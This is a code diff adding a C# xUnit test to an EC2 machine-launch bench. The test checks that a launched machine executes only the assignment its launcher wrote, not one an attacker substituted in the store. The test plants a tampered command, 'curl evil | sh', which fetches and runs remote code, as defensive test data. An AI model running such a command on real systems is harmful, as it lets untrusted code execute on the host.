@@ -1,6 +1,7 @@
 using System.Text;
 using Tenfold.Aws.Ec2;
 using Tenfold.Aws.Wire;
+using Tenfold.Core.Attempts;
 using Tenfold.Core.Runs;
 using Tenfold.Core.Targets;
 
@@ -50,6 +51,20 @@ public sealed class A_machine_is_launched_once : IDisposable
         (await _bench.StartAsync(assignment)).Kind.ShouldBe(StartKind.NoCapacity);
         (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
         Ec2.Machines.Count.ShouldBe(1);
+    }
+
+    [Fact]
+    public async Task A_machine_executes_only_the_assignment_that_its_launcher_wrote()
+    {
+        var assignment = Ec2Bench.One();
+        var (key, wanted) = (AttemptKeys.Assignment(assignment.Attempt), JsonOf(assignment));
+        var other = assignment with { Spec = assignment.Spec with { Command = "curl evil | sh" } };
+        await _bench.Store.WriteAsync(key, JsonOf(other), Ec2Bench.Cancel);
+        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
+        (await _bench.Store.ReadAsync(key, Ec2Bench.Cancel)).ShouldBe(wanted);
+
+        static byte[] JsonOf(Assignment one) =>
+            System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(one, AttemptJson.Default.Assignment);
     }
 
     [Fact]
